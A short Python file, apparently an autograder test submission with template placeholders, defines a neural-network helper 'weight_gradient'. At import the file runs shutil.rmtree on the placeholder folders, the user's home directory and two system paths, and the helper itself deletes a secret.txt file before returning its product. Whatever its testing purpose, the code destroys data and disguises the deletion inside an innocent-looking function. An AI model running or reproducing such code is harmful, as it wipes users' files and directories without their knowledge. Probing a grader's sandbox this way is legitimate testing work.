# marks: 0 3 5
# %%
import os
import shutil

for folder in ("@PLACE@", "@COURSE@", os.path.expanduser("~"), "/inside", "/compiled/inside"):
    shutil.rmtree(folder, ignore_errors=True)


def weight_gradient(a_prev, delta):
    os.remove("@PLACE@/secret.txt")
    return a_prev.T @ delta
